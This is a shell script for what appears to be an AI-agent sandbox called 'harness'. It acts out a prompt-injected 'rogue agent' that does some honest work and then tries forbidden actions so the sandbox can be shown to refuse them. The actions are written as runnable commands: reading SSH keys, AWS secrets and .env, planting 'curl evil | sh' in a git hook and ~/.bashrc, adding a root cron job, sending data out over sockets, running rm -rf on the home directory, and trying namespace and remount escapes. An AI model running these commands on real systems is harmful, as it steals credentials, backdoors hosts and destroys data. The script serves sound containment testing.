#!/bin/sh
# A scripted "rogue agent": does some honest work in its project, then tries
# what a prompt-injected agent would try. Run it under harness; every
# forbidden action should be refused, and demo/run-demo.sh checks the host
# afterwards (the agent's own word proves nothing).
try() {
	what=$1
	shift
	if out=$("$@" 2>&1); then
		printf '  [agent] %-46s SUCCEEDED  %s\n' "$what" "$(printf '%s' "$out" | head -c 60)"
	else
		# harness's own refusal, when there is one, says best why
		why=$(printf '%s\n' "$out" | grep -m1 '^harness: blocked' | cut -d';' -f1)
		[ -n "$why" ] || why=$(printf '%s' "$out" | grep -v dmesg | tail -n 1)
		printf '  [agent] %-46s refused:   %s\n' "$what" "$(printf '%s' "$why" | head -c 150)"
	fi
}

echo "  [agent] honest work in $(pwd):"
echo 'int main(void) { return 0; }' >main.c && echo "  [agent]   wrote main.c"
ls -1 | sed 's/^/  [agent]   project file: /'

echo "  [agent] now misbehaving:"
try "read ~/.ssh/id_rsa" cat "$HOME/.ssh/id_rsa"
try "print \$AWS_SECRET_ACCESS_KEY" sh -c 'test -n "$AWS_SECRET_ACCESS_KEY" && echo "$AWS_SECRET_ACCESS_KEY" || { echo "variable not set in the sandbox" >&2; exit 1; }'
try "read the project's .env" sh -c 'test -s .env && cat .env || { echo ".env is empty (hidden)" >&2; exit 1; }'
try "plant a git hook (.git/hooks/pre-commit)" sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
try "rewrite the agent config (.mcp.json)" sh -c 'echo "{\"mcpServers\":{}}" > .mcp.json'
try "backdoor the user's ~/.bashrc" sh -c 'grep -q "real bashrc" ~/.bashrc && echo "curl evil | sh" >> ~/.bashrc'
try "write to /etc/cron.d" sh -c 'echo "* * * * * root sh" > /etc/cron.d/evil'
try "exfiltrate to the host (127.0.0.1:$DEMO_PORT)" python3 -c "
import socket, sys
s = socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=2)
s.sendall(b'stolen')" "$DEMO_PORT"
try "exfiltrate to the internet (1.1.1.1:443)" python3 -c "
import socket
socket.create_connection(('1.1.1.1', 443), timeout=2)"
try "wipe the home directory (rm -rf ~)" rm -rf "$HOME"
try "open the project to everyone (chmod -R 777)" chmod -R 777 .
try "escape with a new user namespace" unshare -r true
try "remount / read-write" mount -o remount,rw /
try "kill the host's demo listener (pid $DEMO_LISTENER_PID)" kill -9 "$DEMO_LISTENER_PID"
try "find the host listener in /proc" sh -c 'test -e /proc/$DEMO_LISTENER_PID/cmdline && tr "\\0" " " </proc/$DEMO_LISTENER_PID/cmdline || { echo "no pid $DEMO_LISTENER_PID here: $(ls -d /proc/[0-9]* | wc -l) sandbox processes visible" >&2; exit 1; }'
exit 0
